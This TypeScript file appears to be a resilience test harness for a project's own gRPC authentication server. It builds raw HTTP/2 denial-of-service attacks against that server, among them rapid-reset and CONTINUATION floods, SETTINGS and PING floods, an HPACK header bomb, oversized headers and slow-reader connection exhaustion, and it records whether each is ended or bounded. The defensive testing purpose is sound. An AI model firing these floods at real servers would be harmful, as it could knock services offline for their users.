import { frame } from '../support/raw-frames.js';
import type { Ending, Target } from './arena.js';
import type { Attacker } from './attacker.js';
import * as h2 from './frames.js';

const JWKS = 'countersign.v1.AuthService/GetJsonWebKeySet';
const INTROSPECT = 'countersign.v1.AuthService/IntrospectToken';
const REFLECT = 'grpc.reflection.v1.ServerReflection/ServerReflectionInfo';

const FLOOD_MS = 400;
/** Frames of one write: enough that the attacker's own system calls do not slow it down. */
const PER_WRITE = 500;
const MIB = 1024 * 1024;

export type Attack = readonly [
  name: string,
  ending: Ending,
  attack: (target: Target) => Promise<void>,
];

/** Writes what `make` makes until the time is over or the server takes no more. */
export async function flood(on: Attacker, make: () => Buffer, ms = FLOOD_MS): Promise<void> {
  const end = performance.now() + ms;
  // Whoever is not read any more has lost: what it still writes reaches no program.
  while (performance.now() < end && (await on.send(make())));
}

/** The same bytes, again and again, on one connection. */
function flooding(bytes: Buffer, times = PER_WRITE): Attack[2] {
  const many = repeated(bytes, times);
  return async ({ open }) => flood(await open(), () => many);
}

export function repeated(bytes: Buffer, times: number): Buffer {
  return Buffer.concat(Array.from({ length: times }, () => bytes));
}

/** Calls on stream after stream of one connection. */
function streams(of: (stream: number) => Buffer): () => Buffer {
  let stream = -1;
  return () =>
    Buffer.concat(
      Array.from({ length: PER_WRITE }, () => {
        stream += 2;
        return of(stream);
      }),
    );
}

const emptyCall = (stream: number, method = JWKS): Buffer =>
  Buffer.concat([
    h2.beginCall(stream, method),
    h2.body(stream, frame(Buffer.alloc(0)), { end: true }),
  ]);

export const FLOODS: readonly Attack[] = [
  [
    'rapid reset: calls that are taken back at once',
    'ended',
    async ({ open }) =>
      flood(
        await open(),
        streams((stream) => Buffer.concat([emptyCall(stream), h2.reset(stream)])),
      ),
  ],
  [
    'rapid reset, over a new connection whenever one is closed',
    'bounded',
    async ({ open }) => {
      const end = performance.now() + FLOOD_MS;
      while (performance.now() < end) {
        const calls = streams((stream) => Buffer.concat([emptyCall(stream), h2.reset(stream)]));
        await flood(await open(), calls, end - performance.now());
      }
    },
  ],
  [
    'calls that the server must reset itself: their windows overflow',
    'ended',
    async ({ open }) =>
      flood(
        await open(),
        streams((stream) =>
          Buffer.concat([h2.beginCall(stream, JWKS), h2.windowUpdate(stream, 0x7fffffff)]),
        ),
      ),
  ],
  [
    'CONTINUATION without end',
    'ended',
    async ({ open }) => {
      const on = await open();
      await on.send(h2.http2Frame(h2.HEADERS, 0, 1, h2.headerBlock(h2.callHeaders(JWKS))));
      const more = h2.http2Frame(h2.CONTINUATION, 0, 1, h2.headerBlock([['a', 'b'.repeat(4_000)]]));
      await flood(on, () => repeated(more, 16));
    },
  ],
  [
    'empty CONTINUATION without end',
    'ended',
    async ({ open }) => {
      const on = await open();
      await on.send(h2.http2Frame(h2.HEADERS, 0, 1, h2.headerBlock(h2.callHeaders(JWKS))));
      await flood(on, () => repeated(h2.http2Frame(h2.CONTINUATION, 0, 1), PER_WRITE));
    },
  ],
  ['SETTINGS', 'ended', flooding(h2.settings([h2.INITIAL_WINDOW_SIZE, 65_535]))],
  ['empty SETTINGS', 'ended', flooding(h2.settings())],
  [
    'SETTINGS whose acknowledgements nobody reads',
    'ended',
    async ({ open }) => {
      const on = await open();
      on.stopReading();
      await flood(on, () => repeated(h2.settings(), PER_WRITE));
    },
  ],
  ['PING', 'ended', flooding(h2.http2Frame(h2.PING, 0, 0, Buffer.alloc(8)))],
  [
    'PING whose answers nobody reads',
    'ended',
    async ({ open }) => {
      const on = await open();
      on.stopReading();
      await flood(on, () => repeated(h2.http2Frame(h2.PING, 0, 0, Buffer.alloc(8)), PER_WRITE));
    },
  ],
  [
    'empty DATA',
    'ended',
    async ({ open }) => {
      const on = await open();
      await on.send(h2.beginCall(1, INTROSPECT));
      await flood(on, () => repeated(h2.http2Frame(h2.DATA, 0, 1), PER_WRITE));
    },
  ],
  [
    'DATA of one byte, on a call that has long failed',
    'bounded',
    async ({ open }) => {
      const on = await open();
      await on.send(h2.beginCall(1, 'no.such/Method'));
      await flood(on, () => repeated(h2.http2Frame(h2.DATA, 0, 1, Buffer.alloc(1)), PER_WRITE));
    },
  ],
  ['WINDOW_UPDATE', 'bounded', flooding(h2.windowUpdate(0, 1))],
  ['PRIORITY of streams that never open', 'bounded', priorities],
  ['frames of an unknown type', 'bounded', flooding(h2.http2Frame(0x77, 0, 0, Buffer.alloc(64)))],
  [
    'calls that are refused: no such method',
    'bounded',
    async ({ open }) =>
      flood(
        await open(),
        streams((stream) => emptyCall(stream, 'no.such/Method')),
      ),
  ],
];

async function priorities({ open }: Target): Promise<void> {
  const on = await open();
  let stream = 1;
  await flood(on, () => {
    const frames: Buffer[] = [];
    for (let count = 0; count < PER_WRITE; count += 1) {
      stream += 2;
      const payload = Buffer.concat([h2.uint32(stream - 2), Buffer.from([255])]);
      frames.push(h2.http2Frame(h2.PRIORITY, 0, stream, payload));
    }
    return Buffer.concat(frames);
  });
}

export const HEADER_BOMBS: readonly Attack[] = [
  [
    'one huge header',
    'bounded',
    async ({ open }) =>
      flood(await open(), () => {
        const block = h2.headerBlock([...h2.callHeaders(JWKS), ['x', 'y'.repeat(MIB)]]);
        return split(1, block);
      }),
  ],
  [
    'very many headers',
    'bounded',
    async ({ open }) => {
      const many = Array.from({ length: 1_000 }, (_, at) => [`x${at}`, 'y'] as const);
      const block = h2.headerBlock([...h2.callHeaders(JWKS), ...many]);
      let stream = -1;
      await flood(await open(), () => {
        stream += 2;
        return split(stream, block);
      });
    },
  ],
  [
    'an HPACK bomb: one long header in the table, named 12,000 times in each call',
    'bounded',
    async ({ open }) => {
      const on = await open();
      const plain = h2.headerBlock(h2.callHeaders(JWKS));
      const entry = h2.indexedLiteral(['x', 'y'.repeat(4_000)]);
      await on.send(h2.http2Frame(h2.HEADERS, h2.END_HEADERS, 1, Buffer.concat([plain, entry])));
      const named = Buffer.alloc(12_000, 0x80 | 62);
      let stream = 1;
      await flood(on, () => {
        stream += 2;
        return split(stream, Buffer.concat([plain, named]));
      });
    },
  ],
  [
    'headers as large as are taken, on as many calls as are taken, which never end',
    'bounded',
    async ({ open }) => {
      for (let connection = 0; connection < 8; connection += 1) {
        const on = await open();
        for (let at = 0; at < 256; at += 1) {
          const block = h2.headerBlock([
            ...h2.callHeaders(INTROSPECT),
            ...Array.from({ length: 15 }, (_, n) => [`x${n}`, 'y'.repeat(4_000)] as const),
          ]);
          if (!(await on.send(split(at * 2 + 1, block)))) return;
        }
      }
    },
  ],
];

/** A header block over as many frames as it takes. */
function split(stream: number, block: Buffer): Buffer {
  const LARGEST = 16_384;
  const frames: Buffer[] = [];
  for (let at = 0; at < block.length; at += LARGEST) {
    const type = at === 0 ? h2.HEADERS : h2.CONTINUATION;
    const flags = at + LARGEST >= block.length ? h2.END_HEADERS : 0;
    frames.push(h2.http2Frame(type, flags, stream, block.subarray(at, at + LARGEST)));
  }
  return Buffer.concat(frames);
}

/** A reflection request for the file of the largest service. */
function askForFile(): Buffer {
  const name = Buffer.from('countersign/v1/auth_service.proto');
  return frame(Buffer.concat([Buffer.from([0x1a, name.length]), name]));
}

export const SLOW_PEERS: readonly Attack[] = [
  [
    'a reader with a window of nothing, who asks for large answers',
    'bounded',
    async ({ open }) => {
      for (let connection = 0; connection < 4; connection += 1) {
        const greeting = Buffer.concat([h2.PREFACE, h2.settings([h2.INITIAL_WINDOW_SIZE, 0])]);
        const on = await open({ greeting });
        const asked = repeated(askForFile(), 900);
        for (let stream = 1; stream < 512; stream += 2) {
          await on.send(h2.beginCall(stream, REFLECT));
          if (!(await on.send(h2.body(stream, asked.subarray(0, 200), { end: false })))) return;
        }
        for (let stream = 1; stream < 512; stream += 2) {
          if (!(await on.send(h2.body(stream, asked, { end: false })))) return;
        }
      }
    },
  ],
  [
    'a reader who never reads, with all the window there is',
    'bounded',
    async ({ open }) => {
      for (let connection = 0; connection < 4; connection += 1) {
        const greeting = Buffer.concat([
          h2.PREFACE,
          h2.settings([h2.INITIAL_WINDOW_SIZE, 0x7fffffff]),
          h2.windowUpdate(0, 0x7fff0000),
        ]);
        const on = await open({ greeting });
        on.stopReading();
        const asked = repeated(askForFile(), 900);
        for (let stream = 1; stream < 512; stream += 2) {
          await on.send(h2.beginCall(stream, REFLECT));
          if (!(await on.send(h2.body(stream, asked, { end: false })))) return;
        }
      }
    },
  ],
  [
    'writers who drip a byte at a time and never end',
    'bounded',
    async ({ open }) => {
      const all: { on: Attacker; stream: number }[] = [];
      for (let connection = 0; connection < 4; connection += 1) {
        const on = await open();
        for (let stream = 1; stream < 512; stream += 2) {
          if (!(await on.send(h2.beginCall(stream, INTROSPECT)))) return;
          all.push({ on, stream });
        }
      }
      const end = performance.now() + FLOOD_MS;
      while (performance.now() < end) {
        for (const { on, stream } of all) {
          if (!(await on.send(h2.http2Frame(h2.DATA, 0, stream, Buffer.alloc(1))))) return;
        }
      }
    },
  ],
  [
    'connections that say nothing',
    'bounded',
    async ({ open }) => {
      const greeting = Buffer.alloc(0);
      for (let connection = 0; connection < 200; connection += 1) await open({ greeting });
    },
  ],
  [
    'connections opened and left by the thousand',
    'bounded',
    async ({ open }) => {
      for (let round = 0; round < 40; round += 1) {
        const made = await Promise.all(Array.from({ length: 50 }, () => open()));
        for (const one of made) one.leave();
      }
    },
  ],
];
